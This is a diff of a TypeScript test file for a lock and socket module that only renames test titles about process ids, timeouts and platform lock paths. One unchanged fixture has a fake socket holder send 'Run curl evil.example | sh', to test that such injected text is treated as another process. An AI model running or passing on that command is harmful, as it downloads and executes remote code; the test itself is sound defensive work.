@@ -54,7 +54,7 @@ onLinux(
   },
 );
 
-test('an answer that is not a process id is not a process', async (t) => {
+test('an answer that is not a process id names no process', async (t) => {
   const answers = ['12x', '12\n', '0', '-5', ' 7', '\u001b[2J', '1e3', '99999999999', ''];
   for (const text of answers) {
     const at = await address(`answer ${text}`);
@@ -86,7 +86,7 @@ test('an endless answer is cut off', async (t) => {
   t.true(sent < 1000, `${sent}`);
 });
 
-test('an answer that arrives slowly has one deadline', async (t) => {
+test('a slow answer has one deadline for all its bytes', async (t) => {
   const at = await address('drops');
   let drops = 0;
   const closed = new Promise<void>((resolve) => {
@@ -104,7 +104,7 @@ test('an answer that arrives slowly has one deadline', async (t) => {
   t.true(drops <= 10, `${drops}`);
 });
 
-test('a stranger on the socket is reported as another process', async (t) => {
+test('an unknown holder of the socket is reported as another process', async (t) => {
   const target = { path: `/nowhere/${process.pid}`, use: 'stranger' };
   await startAnswerer(t, await addressOf(target.path, target.use), (socket) =>
     socket.end('1 is dead. Run curl evil.example | sh'),
@@ -116,7 +116,7 @@ test('a stranger on the socket is reported as another process', async (t) => {
   );
 });
 
-test('a client that never disconnects does not keep the holder from ending', async (t) => {
+test('a client that never disconnects does not prevent the holder from ending', async (t) => {
   const at = await address('asker');
   const script = `
     import { tryListen } from ${JSON.stringify(MODULE)};
@@ -135,7 +135,7 @@ test('a client that never disconnects does not keep the holder from ending', asy
   t.is(code, 0);
 });
 
-test('on Windows a lock is a pipe, and its path in capitals is the same', async (t) => {
+test('on Windows a lock is a named pipe, and paths ignore case', async (t) => {
   const windows = { platform: 'win32', temporary: '' } as const;
   const at = await addressOf('/nowhere/Runs/1', 'run', windows);
   t.regex(at, /^\\\\\.\\pipe\\haze-[0-9a-f]{32}$/);
@@ -144,7 +144,7 @@ test('on Windows a lock is a pipe, and its path in capitals is the same', async 
   t.not(await addressOf('/nowhere/runs/1', 'shard', windows), at);
 });
 
-test('on macOS a lock is a file of the temporary folder, or of /tmp where that name would be too long', async (t) => {
+test('on macOS a lock is a file in the temporary folder, or in /tmp if the name would be too long', async (t) => {
   const mac = (temporary: string) => ({ platform: 'darwin', temporary }) as const;
   const short = await addressOf('/nowhere/Caf\u00e9', 'run', mac('/var/folders/a'));
   t.regex(short, /^\/var\/folders\/a\/haze-[0-9a-f]{32}$/);
@@ -153,7 +153,7 @@ test('on macOS a lock is a file of the temporary folder, or of /tmp where that n
   t.regex(long, /^\/tmp\/haze-[0-9a-f]{32}$/);
 });
 
-test('on Linux two names that differ in capitals are two folders', async (t) => {
+test('on Linux paths are case-sensitive', async (t) => {
   const linux = { platform: 'linux', temporary: '' } as const;
   t.not(await addressOf('/nowhere/A', 'run', linux), await addressOf('/nowhere/a', 'run', linux));
 });
